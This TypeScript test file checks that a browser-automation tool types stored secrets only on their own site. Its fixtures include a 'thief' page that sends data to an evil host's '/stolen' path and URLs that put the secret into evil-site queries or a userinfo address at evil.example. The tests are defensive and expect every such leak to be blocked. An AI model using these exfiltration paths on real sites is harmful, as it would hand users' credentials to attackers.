import { describe, expect, test } from 'vitest';
import type { JsonObject } from '../../../../shared/json.ts';
import { boundTo, written } from '../../../../shared/testing/sealed.ts';
import type { ToolOutcome } from '../../../executor/ports.ts';
import { thief } from '../testing/hostile-sites.ts';
import {
  expectKeptFromThief,
  expectKeptWhileLeaving,
  expectStartHidden,
  openSecretSites,
  testKeptAtAddress,
  testKeptFromFrame,
  testTypedAtHome,
  typedSecret as secret,
} from './testing/secret-sites.ts';

const limitMs = 120_000;
const sites = await openSecretSites();
const { browser, shop, evil, call, type, held, expectKept } = sites;
const typeAtHome = (args: JsonObject = {}) =>
  call('type_text', { text: '${secrets.PW}', into: 'Password', ...args });

test("a short description doesn't reveal a secret's start", () => expectStartHidden(sites, [5]), limitMs);

describe('typing a secret on its own site', () => {
  testTypedAtHome(sites, [
    ['key by key', '<label>Password <input id="p"></label>', { into: 'Password', byKeys: true }],
    ['into the focused field', '<input id="p" autofocus>', {}],
  ]);

  test(
    "appends, fires the form's events, and submits",
    async () => {
      shop.show(
        '/login',
        '<form action="/sent"><label>Password <input id="p" name="p" value="x-"></label></form><script>seen = []; for (const kind of ["input", "change"]) p.addEventListener(kind, () => seen.push(kind));</script>',
      );
      await browser.value('open_page', { url: `${shop.url}/login` });
      expect(await typeAtHome({ clear: false })).toMatchObject({ ok: true });
      expect(await held('#p')).toBe(`x-${secret}`);
      expect(await browser.session.openPage?.evaluate('[...new Set(seen)]')).toEqual(['input', 'change']);
      expect(await typeAtHome({ submit: true })).toMatchObject({ ok: true });
      expect(shop.received.join('\n')).toContain(`/sent?p=${secret}`);
    },
    limitMs,
  );

  test(
    'works in an address and in a same-site frame',
    async () => {
      shop.show('/frame', '<label>Password <input id="p"></label>');
      shop.show('/with-frame', '<iframe src="/frame"></iframe>');
      expect(await call('open_page', { url: `${shop.url}/with-frame?token=\${secrets.PW}` })).toMatchObject({
        ok: true,
      });
      expect(shop.received.join('\n')).toContain(`token=${secret}`);
      expect(await typeAtHome()).toMatchObject({ ok: true });
    },
    limitMs,
  );

  test(
    'types 100,000 characters; a field that keeps fewer is reported',
    async () => {
      const token = 'a1B2'.repeat(25_000);
      const caller = browser.callerWith({ LONG: token }, boundTo(['LONG'], { origins: [shop.url] }));
      const found = caller.resolve('browser', 'type_text');
      if (!found.ok) throw new Error(found.failure.message);
      const send = (into: string): Promise<ToolOutcome> =>
        caller.call(
          found.tool,
          written({ text: '${secrets.LONG}', into }),
          new AbortController().signal,
          8_000,
        );
      shop.show('/long', '<label>Token <input id="t"></label><label>Short <input maxlength="10"></label>');
      await browser.value('open_page', { url: `${shop.url}/long` });
      expect(await send('Token')).toMatchObject({ ok: true });
      expect(await held('#t')).toBe(token);
      expect(await send('Short')).toMatchObject({ ok: false, failure: { code: 'text-rejected' } });
    },
    limitMs,
  );
});

describe('a secret stays out of another site', () => {
  testKeptAtAddress(sites, [['by a redirect', `${shop.url}/to/${encodeURIComponent(`${evil.url}/login`)}`]]);

  testKeptFromFrame(sites, [
    ['an advert', `<iframe src="${evil.url}/login"></iframe>`],
    [
      'a frame without an address',
      `<iframe srcdoc='${thief.replaceAll("'", '&#39;').replaceAll('/stolen', `${evil.url}/stolen`)}'></iframe>`,
    ],
  ]);

  test(
    'in a frame of its own site inside another site',
    async () => {
      shop.show('/login', thief);
      evil.show('/', `<iframe src="${shop.url}/login"></iframe>`);
      await browser.value('open_page', { url: evil.url });
      await browser.session.openPage?.frameLocator('iframe').locator('#p').waitFor();
      await expectKept(await type());
      expect(shop.received.join('\n')).not.toContain(secret);
    },
    limitMs,
  );

  test(
    'in popups',
    async () => {
      evil.show('/login', thief);
      shop.show(
        '/',
        `<label>Password <input></label><button onclick="window.open('${evil.url}/login')">Help</button>`,
      );
      await browser.value('open_page', { url: shop.url });
      await browser.value('click', { target: 'Help' });
      await expect.poll(() => browser.session.openPage?.url()).toBe(`${evil.url}/login`);
      await expectKept(await type());
      await browser.session.openPage?.close();
    },
    limitMs,
  );

  test('during a navigation while searching', () => expectKeptWhileLeaving(sites, [0, 120]), limitMs);

  test('while an advert keeps taking the focus', () => expectKeptFromThief(sites, [true]), limitMs);

  test(
    'as an address, a key, a dialog answer or a target',
    async () => {
      evil.show('/', '<button>Go</button>');
      shop.show('/', '<button onclick="prompt(1)">Ask</button>');
      await browser.value('open_page', { url: evil.url });
      await expectKept(await call('open_page', { url: `${evil.url}/?q=\${secrets.PW}` }));
      await expectKept(
        await call('open_page', { url: shop.url.replace('://', '://${secrets.PW}@evil.example/') }),
      );
      await browser.value('open_page', { url: evil.url });
      await expectKept(await call('click', { target: '${secrets.PW}' }));
      for (const [tool, args] of [
        ['press_key', { key: '${secrets.PW}' }],
        ['answer_dialog', { text: '${secrets.PW}' }],
        ['open_page', { url: `${shop.url}/#\${secrets.PW}` }],
      ] as const) {
        expect(await call(tool, args)).toMatchObject({ ok: false, failure: { code: 'secret-not-allowed' } });
      }
    },
    limitMs,
  );
});
